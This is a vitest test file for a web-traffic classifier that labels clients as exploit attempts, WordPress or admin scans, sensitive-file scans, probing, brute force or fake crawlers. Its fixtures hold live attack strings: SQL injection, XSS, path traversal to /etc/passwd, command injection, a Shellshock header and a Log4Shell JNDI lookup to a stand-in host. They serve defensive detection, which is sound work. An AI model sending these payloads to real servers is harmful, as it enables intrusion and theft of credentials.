import { describe, expect, it } from 'vitest';
import { ClientTracker, classify } from '../src/index.js';
import type { RequestFacts, Verdict } from '../src/index.js';

// Each scenario's bucket, as docs/traffic.md lists them: how many requests within how long make a verdict. One
// request fewer, or the same requests spread wider, must not: a verdict too early flags a person, one too late lets
// a scanner pass for a visitor.
const T0 = Date.UTC(2026, 4, 1, 12);
const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
const IP = '203.0.113.50';

function req(path: string, status: number, extra: Partial<RequestFacts> = {}): RequestFacts {
  return { method: 'GET', path, status, ip: IP, userAgent: CHROME, ...extra };
}

/** The verdict after `requests` from one client, the i-th at T0 + i * gapMs. */
function verdictAfter(requests: RequestFacts[], gapMs: number): Verdict | undefined {
  const tracker = new ClientTracker();
  let last: Verdict | undefined;
  for (const [i, r] of requests.entries()) {
    const timed = { ...r, time: T0 + i * gapMs };
    last = tracker.observe(timed, classify(timed));
  }
  return last;
}

describe('exploit attempts', () => {
  // High-severity payloads: two within 30 s are an exploit attempt; one may be a person pasting odd text.
  const HIGH: Array<[string, string]> = [
    ['sql-injection', "/item?id=1'%20or%20'1'='1"],
    ['xss', '/search?q=<script>alert(1)</script>'],
    ['path-traversal', '/index.php?page=../../etc/passwd'],
    ['php-remote-include', '/index.php?page=http://198.51.100.9/x.txt'],
    ['backdoor-probe', '/c99.php'],
    ['cve-probe', '/_ignition/execute-solution'],
  ];
  it.each(HIGH)(
    'calls two %s requests within 30 s an exploit, and one or two a minute apart nothing',
    (id, path) => {
      const r = req(path, 200);
      expect(classify({ ...r, time: T0 }).signals).toEqual([id]);
      expect(verdictAfter([r], 1000)).toBeUndefined();
      expect(verdictAfter([r, r], 10_000)).toMatchObject({ verdict: 'exploit', rules: { [id]: 2 } });
      expect(verdictAfter([r, r], 29_000)?.verdict).toBe('exploit');
      expect(verdictAfter([r, r], 31_000)).toBeUndefined();
    },
  );

  // Critical payloads run code on the server: the first one is enough.
  const CRITICAL: Array<[string, RequestFacts]> = [
    ['command-injection', req('/cgi-bin/x?a=;id', 200)],
    ['shellshock', req('/', 200, { userAgent: '() { :; }; /bin/id' })],
    ['log4shell', req('/?x=${jndi:ldap://198.51.100.9/a}', 200)],
  ];
  it.each(CRITICAL)('calls one %s request an exploit', (id, r) => {
    expect(classify({ ...r, time: T0 }).signals).toEqual([id]);
    expect(verdictAfter([r], 1000)).toMatchObject({
      verdict: 'exploit',
      requests: 1,
      paths: [r.path.split('?')[0]],
    });
  });
});

describe('scans of one kind of page', () => {
  it('calls three WordPress probes within seconds a WordPress scan, and two nothing', () => {
    const wp = req('/wp-login.php', 404);
    expect(verdictAfter([wp, wp], 1000)).toBeUndefined();
    expect(verdictAfter([wp, wp, wp], 1000)).toMatchObject({ verdict: 'wordpress-scan', requests: 3 });
    // Answered (the site runs WordPress), the same requests are its users logging in.
    const served = req('/wp-login.php', 200);
    expect(verdictAfter([served, served, served, served], 1000)).toBeUndefined();
  });

  it('calls two sensitive-file requests within 5 s a sensitive-file scan, and the same 6 s apart nothing', () => {
    const pair = [req('/.env?debug=1', 404), req('/.git/config', 404)];
    expect(verdictAfter(pair.slice(0, 1), 1000)).toBeUndefined();
    expect(verdictAfter(pair, 4000)).toMatchObject({
      verdict: 'sensitive-file-scan',
      paths: ['/.env', '/.git/config'],
    });
    expect(verdictAfter(pair, 6000)).toBeUndefined();
    // A file a site serves on purpose is still one nobody should ask for.
    expect(verdictAfter([req('/.env', 200), req('/.env', 200)], 1000)?.verdict).toBe('sensitive-file-scan');
  });

  it('calls three admin-page probes within 30 s an admin scan, and two, or three a minute apart, nothing', () => {
    const three = [req('/admin.php', 404), req('/administrator/', 404), req('/manager/html', 404)];
    expect(verdictAfter(three.slice(0, 2), 1000)).toBeUndefined();
    expect(verdictAfter(three, 10_000)).toMatchObject({ verdict: 'admin-scan', requests: 3 });
    expect(verdictAfter(three, 60_000)).toBeUndefined();
    const pma = [req('/phpmyadmin/', 404), req('/pma/', 404), req('/myadmin/', 404)];
    expect(verdictAfter(pma, 10_000)?.verdict).toBe('admin-scan');
  });
});

describe('probing', () => {
  const missing = (n: number, status = 404) =>
    Array.from({ length: n }, (_, i) => req(`/guess-${i}`, status));

  it('calls eleven distinct missing or forbidden pages within seconds probing, and ten nothing', () => {
    expect(verdictAfter(missing(10), 100)).toBeUndefined();
    expect(verdictAfter(missing(11), 100)).toMatchObject({ verdict: 'probing', requests: 11 });
    expect(verdictAfter(missing(11, 403), 100)?.verdict).toBe('probing');
    expect(verdictAfter(missing(11, 500), 100)).toBeUndefined();
  });

  it('does not call a page reloaded while it is missing, or missing images and scripts, probing', () => {
    expect(
      verdictAfter(
        Array.from({ length: 30 }, () => req('/old-page', 404)),
        100,
      ),
    ).toBeUndefined();
    const assets = Array.from({ length: 30 }, (_, i) =>
      req(`/img/photo-${i}.${['png', 'jpg', 'css', 'js', 'woff2'][i % 5]!}`, 404),
    );
    expect(verdictAfter(assets, 100)).toBeUndefined();
    // Upper-case extensions are the same assets.
    const shouting = Array.from({ length: 30 }, (_, i) => req(`/IMG/PHOTO-${i}.PNG`, 404));
    expect(verdictAfter(shouting, 100)).toBeUndefined();
  });

  it('does not call a visitor going back and forth between two missing pages probing', () => {
    const twice = Array.from({ length: 40 }, (_, i) => req(i % 2 === 0 ? '/old-a' : '/old-b', 404));
    expect(verdictAfter(twice, 100)).toBeUndefined();
  });

  it('keeps counting a client that asks for many distinct pages, past its memory of them', () => {
    // 200 distinct guesses, one a second: the bucket leaks one per 10 s, so it overflows whatever the tracker forgot.
    expect(verdictAfter(missing(200), 1000)?.verdict).toBe('probing');
  });
});

describe('the strongest verdict stays', () => {
  const SQLMAP = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
  const scanner = req('/', 200, { userAgent: SQLMAP });
  const wp = req('/wp-login.php', 404);
  const sqli = req("/item?id=1'%20or%20'1'='1", 200);

  it('keeps "scanner" when the scanner then probes WordPress, and "exploit" over both', () => {
    const scannerWp = { ...wp, userAgent: SQLMAP };
    expect(verdictAfter([scanner, scannerWp, scannerWp, scannerWp], 1000)).toMatchObject({
      verdict: 'scanner',
      tool: 'sqlmap',
    });
    expect(verdictAfter([scannerWp, scannerWp, scannerWp], 1000)?.verdict).toBe('scanner');
    const scannerSqli = { ...sqli, userAgent: SQLMAP };
    expect(verdictAfter([scanner, scannerSqli, scannerSqli], 1000)?.verdict).toBe('exploit');
    expect(verdictAfter([scannerSqli, scannerSqli, scanner], 1000)?.verdict).toBe('exploit');
  });

  it('turns a WordPress scan into brute force when the logins fail, and keeps exploit over brute force', () => {
    const t = new ClientTracker();
    for (let i = 0; i < 3; i++) t.observe({ ...wp, time: T0 + i }, classify({ ...wp, time: T0 + i }));
    expect(t.verdict(IP, CHROME)?.verdict).toBe('wordpress-scan');
    let v: Verdict | undefined;
    for (let i = 0; i < 6; i++) v = t.recordFailedLogin(IP, CHROME, T0 + 1000 + i);
    expect(v?.verdict).toBe('brute-force');
    for (let i = 0; i < 2; i++)
      t.observe({ ...sqli, time: T0 + 2000 + i }, classify({ ...sqli, time: T0 + 2000 }));
    expect(t.verdict(IP, CHROME)?.verdict).toBe('exploit');
    for (let i = 0; i < 6; i++) v = t.recordFailedLogin(IP, CHROME, T0 + 3000 + i);
    expect(v?.verdict).toBe('exploit');
  });

  it('calls a fake Googlebot a fake crawler before any scan of one kind it then runs', () => {
    const googlebot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    const fake = [
      req('/.env', 404, { userAgent: googlebot }),
      req('/.git/config', 404, { userAgent: googlebot }),
    ];
    const v = verdictAfter(fake, 1000);
    expect(v?.verdict).toBe('fake-crawler');
    // A crawler's name is no scanner or tool.
    expect(v).not.toHaveProperty('tool');
  });
});

describe('what the verdict shows', () => {
  it('names a command-line tool and keeps as evidence only the paths that fired a rule or were missing', () => {
    const curl = { userAgent: 'curl/8.5.0' };
    const v = verdictAfter(
      [
        req('/', 200, curl),
        req('/about', 200, curl),
        req('/.env', 404, curl),
        req('/.git/config?x=1', 404, curl),
      ],
      1000,
    );
    expect(v).toMatchObject({ verdict: 'sensitive-file-scan', tool: 'curl', requests: 4 });
    expect(v?.paths).toEqual(['/.env', '/.git/config']);
    expect(v?.rules).toEqual({ 'tool-user-agent': 4, 'sensitive-file': 2, 'not-found-probe': 2 });
  });

  it('does not file a browser without a user agent, or with an old one, as evidence', () => {
    const old = { userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0' };
    expect(classify({ ...req('/', 200, old), time: T0 }).signals).toEqual(['outdated-browser']);
    expect(
      verdictAfter(
        [req('/', 200, old), req('/home', 200, old), req('/.env', 404, old), req('/.git/HEAD', 404, old)],
        1000,
      ),
    ).toMatchObject({
      verdict: 'sensitive-file-scan',
      paths: ['/.env', '/.git/HEAD'],
      userAgent: old.userAgent,
    });
    const v = verdictAfter(
      [
        req('/', 200, { userAgent: '' }),
        req('/home', 200, { userAgent: '' }),
        req('/.env', 404, { userAgent: '' }),
        req('/.aws/credentials', 404, { userAgent: '' }),
      ],
      1000,
    );
    expect(v).toMatchObject({ verdict: 'sensitive-file-scan', paths: ['/.env', '/.aws/credentials'] });
    // The client is its address and no user agent: its key says so, and it shows none.
    expect(v?.key).toBe(`${IP}|`);
    expect(v).not.toHaveProperty('userAgent');
  });

  it('lists each client with a verdict once, under its address and user agent', () => {
    const t = new ClientTracker();
    const scanner = { ...req('/', 200), userAgent: 'sqlmap/1.7', time: T0 };
    t.observe(scanner, classify(scanner));
    const quiet = { ...req('/', 200), ip: '198.51.100.1', time: T0 };
    t.observe(quiet, classify(quiet));
    expect(t.verdicts()).toEqual([
      expect.objectContaining({
        key: `${IP}|sqlmap/1.7`,
        ip: IP,
        userAgent: 'sqlmap/1.7',
        verdict: 'scanner',
      }),
    ]);
  });

  it('files a request with no path, without throwing', () => {
    const t = new ClientTracker();
    const r = {
      method: 'GET',
      status: 404,
      ip: IP,
      userAgent: 'sqlmap/1.7',
      time: T0,
    } as unknown as RequestFacts;
    expect(t.observe(r, classify(r))).toMatchObject({ verdict: 'scanner', requests: 1 });
  });
});

describe('the times a verdict shows', () => {
  const scanner = (time: RequestFacts['time'], ip = IP): RequestFacts => ({
    method: 'GET',
    path: '/',
    status: 200,
    ip,
    userAgent: 'sqlmap/1.7',
    ...(time !== undefined ? { time } : {}),
  });
  const observe = (t: ClientTracker, r: RequestFacts) => t.observe(r, classify(r));

  it('reads a Date as its moment, as a number of milliseconds', () => {
    const t = new ClientTracker();
    observe(t, scanner(new Date(T0 + 2000)));
    expect(observe(t, scanner(T0 + 1000))).toMatchObject({ firstSeen: T0 + 1000, lastSeen: T0 + 2000 });
  });

  it('files a request without a usable time at the latest time seen so far, from any client', () => {
    const t = new ClientTracker();
    const other = '198.51.100.1';
    observe(t, scanner(T0 + 5000, other));
    observe(t, scanner(T0 + 1000, other)); // out of order: the latest stays T0 + 5000
    for (const time of [undefined, Number.NaN, new Date('not a date'), Number.POSITIVE_INFINITY]) {
      expect(observe(t, scanner(time)), String(time)).toMatchObject({
        firstSeen: T0 + 5000,
        lastSeen: T0 + 5000,
      });
    }
  });
});

describe('options', () => {
  it('refuses a negative or fractional evidence cap, or a fractional client cap, saying what to pass', () => {
    expect(() => new ClientTracker({ maxPathsPerClient: -1 })).toThrow(
      /maxPathsPerClient must be a non-negative integer, got -1/,
    );
    expect(() => new ClientTracker({ maxPathsPerClient: 1.5 })).toThrow(/maxPathsPerClient/);
    expect(() => new ClientTracker({ maxClients: 2.5 })).toThrow(
      /maxClients must be a positive integer, got 2.5/,
    );
    expect(new ClientTracker({ maxPathsPerClient: 0 }).verdicts()).toEqual([]);
  });
});
